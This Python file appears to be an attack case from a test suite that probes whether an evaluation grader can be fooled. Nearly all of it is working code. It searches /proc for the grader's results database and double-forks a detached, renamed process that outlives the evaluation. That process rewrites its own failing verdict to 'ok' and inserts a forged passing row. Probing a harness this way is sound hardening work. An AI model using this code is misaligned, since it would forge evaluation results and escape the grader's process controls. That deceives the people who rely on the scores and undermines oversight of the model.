"""Database forgery from a process that outlives its evaluation.

Finds the results database from the grader's command line in /proc (walking up the parent chain to the
``pkb run`` process: ``--db PATH`` relative to its cwd, /proc/PID/cwd, else ./pkb-results.sqlite there;
failing that, the path the test hints, as an attacker would guess the default). Then double-forks: the
grandchild leads a session of its own, renames itself MARKER and becomes a fresh Python that waits for this
file's verdict row, rewrites it to ``ok`` and adds a forged ``ok`` row beside it, lingering until its time is
up (LIFE_S). The rank itself reports and answers nothing more.
"""

import resource
import shutil
import time

LIFE_S = 45.0

FORGER = r"""
import ctypes, json, sqlite3, sys, time
marker, db, pattern, deadline = sys.argv[1], sys.argv[2], sys.argv[3], time.time() + float(sys.argv[4])
ctypes.CDLL(None).prctl(15, marker.encode(), 0, 0, 0)  # PR_SET_NAME
forged = False
while time.time() < deadline:
    if not forged:
        conn = None
        try:
            conn = sqlite3.connect(db, timeout=5, isolation_level=None)
            conn.row_factory = sqlite3.Row
            conn.execute("BEGIN IMMEDIATE")  # one forger at a time: another rank's (or run's) may be at it too
            row = conn.execute("SELECT * FROM results WHERE solution LIKE ? ORDER BY id DESC LIMIT 1",
                               (pattern,)).fetchone()
            if row is not None and row["solution"].endswith("_forged"):
                forged = True  # another forger got here first
            elif row is not None:
                data = json.loads(row["result_json"])
                data.update(status="ok", message="all outputs match")
                fake = dict(row)
                fake.pop("id")
                fake.update(solution=row["solution"] + "_forged", run_key="forged", status="ok",
                            message="all outputs match", result_json=json.dumps({**data, "solution": fake["solution"]}))
                conn.execute("UPDATE results SET status = 'ok', message = ?, result_json = ? WHERE id = ?",
                             ("all outputs match", json.dumps(data), row["id"]))
                conn.execute(f"INSERT INTO results ({', '.join(fake)}) VALUES ({', '.join('?' * len(fake))})",
                             list(fake.values()))
                forged = True
            conn.execute("COMMIT")
        except Exception:
            pass
        finally:
            if conn is not None:
                conn.close()  # rolls back what was not committed
    time.sleep(0.2)
"""


def database_path(report: dict) -> str | None:
    for pid in ancestors(os.getpid()):
        argv = argv_of(pid)
        if "pkb" not in " ".join(argv) or "run" not in argv:
            continue
        db = "pkb-results.sqlite"
        for i, arg in enumerate(argv):
            if arg == "--db" and i + 1 < len(argv):
                db = argv[i + 1]
            elif arg.startswith("--db="):
                db = arg.split("=", 1)[1]
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError as exc:
            report["failed"]["grader cwd"] = error_text(exc)
            cwd = f"/proc/{pid}/cwd"
        report["done"]["found"] = f"pkb run (pid {pid}) writes {db} in {cwd}"
        return os.path.join(cwd, db)
    report["failed"]["found"] = "no `pkb run` among this process's ancestors"
    return HINTS.get("db")


def detach(db: str) -> int:
    """Start the forger as a grandchild in a session of its own; its pid (as this process sees it)."""
    python = sys.executable or shutil.which("python3")
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:  # keep this branch minimal: the rank has threads
        try:
            os.close(read_end)
            os.setsid()
            grandchild = os.fork()
            if grandchild == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, resource.getrlimit(resource.RLIMIT_NOFILE)[0])
                os.execve(python, [python, "-c", FORGER, MARKER, db, "%db_forgery%", str(LIFE_S)], {})
            os.write(write_end, str(grandchild).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    os.waitpid(child, 0)
    with os.fdopen(read_end) as f:
        return int(f.read() or 0)


def forge() -> dict:
    report = new_report("db_forgery")
    db = database_path(report)
    if db is None or not may_write(db):
        report["skipped"]["forger"] = f"{db}: outside the test's arena"
        return report
    try:
        report["done"]["forger"] = f"pid {detach(db)} started for {db}"
        time.sleep(0.5)  # long enough to be seen alive by the grader, were it to look
    except OSError as exc:
        report["failed"]["forger"] = error_text(exc)
    return report


solution = attack_solution(forge)
